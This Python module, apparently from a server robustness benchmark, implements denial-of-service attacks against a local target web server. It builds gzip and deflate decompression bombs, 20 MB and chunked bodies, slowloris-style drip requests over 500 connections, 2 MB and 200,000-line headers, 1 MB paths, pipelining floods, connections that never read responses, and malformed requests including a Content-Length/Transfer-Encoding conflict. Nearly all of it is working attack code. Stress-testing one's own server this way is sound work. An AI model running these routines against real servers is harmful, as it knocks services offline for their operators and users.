"""HTTP requests that are large, slow, packed or many."""

import asyncio
import zlib

from bench.attacks.requests import JSON, exchange, request, written
from bench.attacks.target import Target, address, together

_PACKED = 400 << 20
_PATHS = (
    "/api/guest",
    "/api/login",
    "/api/register",
    "/api/logout",
    "/api/topple/files",
    "/api/topple/tables",
    "/",
    "/nosuch",
)
_SLOW = 500
_AT_ONCE = 20


def _bomb() -> bytes:
    """400 MB of spaces in 400 KB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    spaces = b" " * (1 << 20)
    return b"".join([*(packer.compress(spaces) for _ in range(_PACKED >> 20)), packer.flush()])


async def _packed(target: Target, body: bytes, coding: str) -> None:
    headers = {**JSON, "Content-Encoding": coding}

    async def send(each: int) -> None:
        async for number in target.ticks(10):
            path = _PATHS[(each + number) % len(_PATHS)]
            await request(target, "POST", path, body=body, headers=headers, address=address(each), seconds=10)

    await together([send(each) for each in range(4)])


async def gzip_bombs(target: Target) -> None:
    """400 KB that unpack to 400 MB, posted to every path, without a session."""
    body = _bomb()
    await target.prepared()
    await _packed(target, body, "gzip")


async def deflate_bombs(target: Target) -> None:
    """The same in the other packing."""
    body = zlib.compress(b" " * (64 << 20), 9)
    await target.prepared()
    await _packed(target, body, "deflate")


async def large_bodies(target: Target) -> None:
    """Bodies of 20 MB where 4 KB are allowed, and some that say so only in chunks."""
    await target.prepared()
    chunk = b"10000\r\n" + b" " * 0x10000 + b"\r\n"
    fields = (
        "Host: x\r\nConnection: close\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
    )
    whole = f"POST /api/guest HTTP/1.1\r\n{fields}\r\n".encode() + chunk * 100 + b"0\r\n\r\n"

    async def plain(each: int) -> None:
        async for number in target.ticks(20):
            path = _PATHS[number % len(_PATHS)]
            body = b" " * (20 << 20)
            await request(target, "POST", path, body=body, headers=JSON, address=address(each), seconds=10)

    async def chunked() -> None:
        async for _ in target.ticks(20):
            answer = await exchange(target, whole, 10)
            target.told[f"HTTP {answer.status or 'none'}, chunked"] += 1

    await together([*(plain(each) for each in range(2)), *(chunked() for _ in range(2))])


async def tiny_chunks(target: Target) -> None:
    """Bodies in chunks of one byte, each with a long extension."""
    fields = (
        "Host: x\r\nConnection: close\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
    )
    chunk = b"1;" + b"x" * 100 + b"\r\n \r\n"
    whole = f"POST /api/guest HTTP/1.1\r\n{fields}\r\n".encode() + chunk * 4000 + b"0\r\n\r\n"
    await target.prepared()

    async def send() -> None:
        async for _ in target.ticks(50):
            answer = await exchange(target, whole, 10)
            target.told[f"HTTP {answer.status or 'none'}"] += 1

    await together([send() for _ in range(4)])


async def slow_headers(target: Target) -> None:
    """500 requests whose headers come a line each second, and never end."""
    await target.prepared()

    async def drip() -> None:
        _reader, writer = await asyncio.open_connection("127.0.0.1", target.page_port)
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\n")
            async for number in target.ticks(1):
                if writer.is_closing():
                    target.told["cut off"] += 1
                    return
                writer.write(b"X-%d: y\r\n" % number)
        finally:
            writer.transport.abort()

    await together([drip() for _ in range(_SLOW)])


async def slow_bodies(target: Target) -> None:
    """500 requests whose bodies come a byte each second."""
    await target.prepared()
    head = written(target, "POST", "/api/guest", headers={**JSON, "Content-Length": "4000"})

    async def drip() -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", target.page_port)
        try:
            writer.write(head)
            async for _ in target.ticks(1):
                writer.write(b" ")
            if reader.at_eof() or writer.is_closing():
                target.told["cut off"] += 1
        finally:
            writer.transport.abort()

    await together([drip() for _ in range(_SLOW)])


async def _over_and_over(target: Target, *heads: bytes) -> None:
    async def send(each: int) -> None:
        async for number in target.ticks(50):
            answer = await exchange(target, heads[(each + number) % len(heads)], target.at_most(5))
            target.told[f"HTTP {answer.status or 'none'}"] += 1

    await together([send(each) for each in range(6)])


async def endless_header(target: Target) -> None:
    """One header of 2 MB that does not end."""
    await target.prepared()
    fields = (b"", b"Upgrade: websocket\r\nConnection: Upgrade\r\n")
    heads = (b"GET /hall HTTP/1.1\r\nHost: x\r\n" + each + b"Cookie: " + b"y" * (2 << 20) for each in fields)
    await _over_and_over(target, *heads)


async def many_headers(target: Target) -> None:
    """200,000 short headers in one request."""
    await target.prepared()
    await _over_and_over(target, b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X: y\r\n" * 200_000 + b"\r\n")


async def long_addresses(target: Target) -> None:
    """Addresses of 1 MB, and queries with the same word 600 times."""
    await target.prepared()
    path = b"GET /" + b"a" * (1 << 20) + b" HTTP/1.1\r\nHost: x\r\n\r\n"
    query = b"GET /api/tables?" + b"state=open&" * 600 + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    await _over_and_over(target, path, query)


async def pipelining(target: Target) -> None:
    """Hundreds of requests in one write, on a few connections."""
    await target.prepared()
    paths = ("/", "/api/games", "/api/tables?state=open", "/nosuch", "/serverlist")
    block = b"".join(written(target, "GET", path, keep=True) for path in paths) * 60
    last = written(target, "GET", "/")

    async def send() -> None:
        async for _ in target.ticks(50):
            answer = await exchange(target, block + last, 10)
            told = f"{(answer.head.encode() + answer.body).count(b'HTTP/1.1 ')} answers"
            target.told[told] += 1

    await together([send() for _ in range(8)])


async def unread_answers(target: Target) -> None:
    """Large files of the page asked for on 200 connections, many times each, and never read."""
    page = await request(target, "GET", "/", count=False)
    scripts = [part.split(b'"')[0].decode() for part in page.body.split(b'src="')[1:]] or ["/"]
    block = b"".join(written(target, "GET", scripts[0], keep=True) for _ in range(100))
    await target.prepared()
    writers = []

    async def ask() -> None:
        _reader, writer = await asyncio.open_connection("127.0.0.1", target.page_port, limit=1024)
        writers.append(writer)
        writer.write(block)
        await asyncio.sleep(target.left)

    await together([ask() for _ in range(200)])
    for writer in writers:
        writer.transport.abort()


async def wrong_methods(target: Target) -> None:
    """Requests that no server should understand, 20 at once."""
    await target.prepared()
    wrong = (
        b"\r\n" * 20_000,
        b"GET / HTTP/9.9\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 500,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
        b"GET /%zz%00 HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /hall HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
    )

    async def send(each: int) -> None:
        async for number in target.ticks(40):
            answer = await exchange(target, wrong[(each + number) % len(wrong)], 2)
            target.told[f"HTTP {answer.status or 'none'}"] += 1

    await together([send(each) for each in range(_AT_ONCE)])
